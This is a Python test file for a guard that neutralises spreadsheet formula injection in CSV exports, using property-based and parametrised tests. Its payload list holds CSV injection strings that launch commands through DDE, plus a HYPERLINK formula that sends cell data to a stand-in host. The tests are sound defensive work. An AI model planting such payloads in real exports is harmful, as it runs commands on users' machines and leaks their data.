"""Can any text run as a formula in a spreadsheet?"""

from __future__ import annotations

import csv
import io
import unicodedata

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.export.spreadsheets import csv_cells, csv_header, csv_lines
from analysis.spreadsheet_guard import guarded, unguarded

SIGNS = "=+-@|%＝＋－＠｜％﹦﹢﹣﹫﹪−"
HIDDEN = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u3000",
    "\u2060",
    "\u202e",
    "\x7f",
    "  \u200d",
]
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1",
    "=",
    "-",
    "+",
    "@",
    '"=1+1"'[1:],
    "=1\n=2",
    "-1\n",
    "+86 138 0013 8000",
    "-5e3",
    "+-5",
    "--5",
    "-１",
    "=\x00",
    "@user",
    "-ann",
    '=DDE("cmd";"/C calc";"!A0")',
]
HOSTILE = [hidden + sign + "1+1" for hidden in HIDDEN for sign in SIGNS] + PAYLOADS
AFTER_A_SEPARATOR = ["a;=1+1", "a; =1+1", "a\t=1+1", "a\n=1+1", "a\r\n@x", "a;\u200b-x", "a;;＝1", "ann;=1;bob"]
PLAIN = [
    "ann",
    "a-b",
    "a=b",
    "5",
    "-5",
    "+5",
    "-5.25",
    "1,5",
    "",
    " ann",
    "用户",
    "50%",
    "a;b",
    "１－２",
    "x@y.z",
]


def safe(text: str) -> str:
    return guarded(pa.array([text], pa.string()))[0].as_py()


def begins_a_formula(cell: str) -> bool:
    """Written apart from the code: what is left after everything that can't be seen."""
    visible = cell.lstrip(
        "".join(
            {
                letter
                for letter in cell
                if unicodedata.category(letter)[0] in "ZM" or unicodedata.category(letter) in ("Cc", "Cf", "Co")
            }
        )
    )
    return bool(visible) and visible[0] in SIGNS


def runs(cell: str) -> bool:
    plain_number = cell.lstrip("+-").replace(".", "", 1).isdecimal() and cell.isascii()
    if begins_a_formula(cell) and not (plain_number and cell[1:2] not in "+-."):
        return True
    later = cell.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")[1:]
    return any(begins_a_formula(part) for part in later)


def test_there_are_enough_hostile_cells() -> None:
    assert len({*HOSTILE, *AFTER_A_SEPARATOR}) >= 200


@pytest.mark.parametrize("text", [*HOSTILE, *AFTER_A_SEPARATOR], ids=ascii)
def test_a_hostile_cell_is_made_plain_and_keeps_its_text(text: str) -> None:
    assert runs(text)
    assert not runs(safe(text))
    assert safe(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_a_plain_cell_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_an_apostrophe_of_its_own_is_told_from_a_guard() -> None:
    assert [safe("-x"), safe("'-x"), safe("''-x")] == ["'-x", "''-x", "'''-x"]


@given(st.text(alphabet=st.one_of(st.characters(codec="utf-8"), st.sampled_from(SIGNS + ";\t\r\n ',\ufeff1"))))
def test_every_guarded_text_comes_back_as_itself(text: str) -> None:
    assert unguarded(pa.array([safe(text)], pa.string()))[0].as_py() == text


@given(st.text(alphabet=st.one_of(st.characters(codec="utf-8"), st.sampled_from(SIGNS + ";\t\r\n \"',\ufeff1"))))
def test_no_text_runs(text: str) -> None:
    assert not runs(safe(text))


@given(
    st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=3, max_size=3), min_size=1, max_size=5)
)
def test_a_csv_reader_reads_the_safe_texts_back(rows: list[list[str]]) -> None:
    columns = [pa.array(column, pa.string()) for column in zip(*rows, strict=True)]
    content = csv_lines([csv_cells(column) for column in columns]).decode()
    assert list(csv.reader(io.StringIO(content, newline=""), strict=True)) == [
        [safe(text) for text in row] for row in rows
    ]


def test_headers_are_made_plain_too_and_the_file_begins_with_its_mark() -> None:
    assert csv_header(["user", '=1+1,"x"']) == b'\xef\xbb\xbfuser,"\'=1+1,""x"""\r\n'


def test_a_column_of_empty_cells_has_no_blank_lines() -> None:
    assert csv_lines([csv_cells(pa.array(["a", None, ""]))]) == b'a\r\n""\r\n""\r\n'
